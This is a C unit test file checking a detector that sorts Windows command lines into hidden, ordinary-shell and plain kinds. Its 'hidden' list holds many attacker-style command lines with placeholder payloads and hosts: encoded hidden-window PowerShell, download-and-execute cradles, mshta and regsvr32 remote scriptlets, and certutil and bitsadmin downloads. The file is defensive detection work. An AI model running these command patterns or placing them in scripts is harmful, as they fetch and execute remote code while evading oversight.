/* Commands that hide what they do, and those that only look so. */
#include "judge/host_command.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

static void all_are(const char *const *commands, enum host_command expected) {
    for (; *commands; commands++)
        if (host_command_of(*commands) != expected)
            fail_msg("%s is %d", *commands, host_command_of(*commands));
}

static void hidden(void **state) {
    (void)state;
    static const char *const commands[] = {
        "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc AAAA",
        "powershell -nop -w hidden -en JABhAD0A",
        "powershell.exe -e JABhAD0A",
        "PowerShell /EC JABhAD0A",
        "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -EncodedCommand JABhAD0A",
        "C:\\Program Files\\PowerShell\\7\\pwsh.exe -encod JABhAD0A",
        "conhost.exe --headless powershell -EncodedCommand JABhAD0A",
        "powershell.exe -c \"irm http://x.y/z | iex\"",
        "powershell iwr http://a/b|iex",
        "powershell iex(New-Object Net.WebClient).DownloadString('http://a')",
        "powershell -c \"[Convert]::FromBase64String($a)\"",
        "cmd.exe /c \"powershell -enc AAAA\"",
        "forfiles /p c:\\windows /m notepad.exe /c \"powershell -enc AAAA\"",
        "C:\\Windows\\system32\\cmd.exe /c echo abc > \\\\.\\pipe\\abc",
        "%COMSPEC% /c echo x > \\\\.\\pipe\\abc",
        "\\??\\C:\\Windows\\system32\\cmd.exe /Q /c x 1> \\\\127.0.0.1\\ADMIN$\\__1",
        "mshta http://x/y.hta",
        "mshta \\\\10.0.0.1\\x\\y.hta",
        "mshta.exe \"javascript:a=1\"",
        "mshta vbscript:Execute(\"a\")",
        "regsvr32 /s /n /u /i:http://x/y.sct scrobj.dll",
        "regsvr32 /s /i:C:\\a.sct scrobj.dll",
        "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \"",
        "certutil.exe -urlcache -split -f http://a/b c",
        "certutil /decode a b",
        "bitsadmin /transfer j http://a/b c",
        "wscript https://a/b.vbs",
        "\"C:\\Windows\\System32\\msiexec.exe\" /q /i http://a/x.msi",
        NULL};
    all_are(commands, HOST_COMMAND_HIDDEN);
}

static void shells(void **state) {
    (void)state;
    static const char *const commands[] = {
        "cmd.exe /c copy a b",
        "cmd /q /ccopy a b",
        "cmd /q/c copy a b",
        "cmd.exe /r ver",
        "PowerShell.exe -File C:\\a.ps1",
        "wscript C:\\a.vbs",
        "powershell -WindowStyle Hidden -ExecutionPolicy Bypass -File a.ps1",
        "powershell.exe -NoProfile -Command \"Get-Date | Out-File -Encoding ascii C:\\ops\\boot.log\"",
        "powershell -File C:\\a.ps1 -e now",
        "powershell -File C:\\downloadfile.ps1",
        "powershell -c Restart-Service WebClient",
        "powershell -File C:\\iex\\a.ps1",
        "powershell -e",
        "wscript.exe C:\\inetpub\\httplogs\\rotate.vbs",
        "mshta C:\\Program Files\\a\\a.hta",
        "%comspec% /c ver",
        NULL};
    all_are(commands, HOST_COMMAND_SHELL);
}

static void plain(void **state) {
    (void)state;
    static const char *const commands[] = {
        "",
        " ",
        "\"",
        "C:\\",
        "C:\\Windows\\System32\\svchost.exe -k netsvcs",
        "C:\\Program Files\\x-encoder\\x.exe -encode",
        "\"C:\\Program Files\\Contoso Phone\\app\\ContosoPhone.exe\" --cmd=1 --pipe \\\\.\\pipe\\phone",
        "C:\\monitoring\\cmdagent.exe --listen \\\\.\\pipe\\mon",
        "C:\\Program Files\\Agent for cmd\\agent.exe --listen \\\\.\\pipe\\mon",
        "regsvr32.exe /s \"C:\\Program Files\\HttpWatch\\hw.dll\"",
        "regsvr32 /s scrobj.dll",
        "certutil.exe -verify -urlcache-x foo",
        "certutil -store",
        "rundll32.exe a.dll,b",
        "msiexec /i C:\\a.msi",
        "C:\\powershelled\\powershell-ise.exe -enc x",
        "cmd.exe",
        "cmd /k prog -config",
        "cmd /k prog /c",
        "cmd -config",
        NULL};
    all_are(commands, HOST_COMMAND_PLAIN);
}

/* A command that names programs without end is read in bounded time. */
static void hostile(void **state) {
    (void)state;
    enum { SIZE = 1 << 20 };
    char *command = malloc(SIZE + 1);
    assert_non_null(command);
    for (size_t i = 0; i < SIZE; i++)
        command[i] = "cmd "[i % 4];
    command[SIZE] = 0;
    assert_int_equal(host_command_of(command), HOST_COMMAND_PLAIN);
    free(command);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(hidden),
        cmocka_unit_test(shells),
        cmocka_unit_test(plain),
        cmocka_unit_test(hostile),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
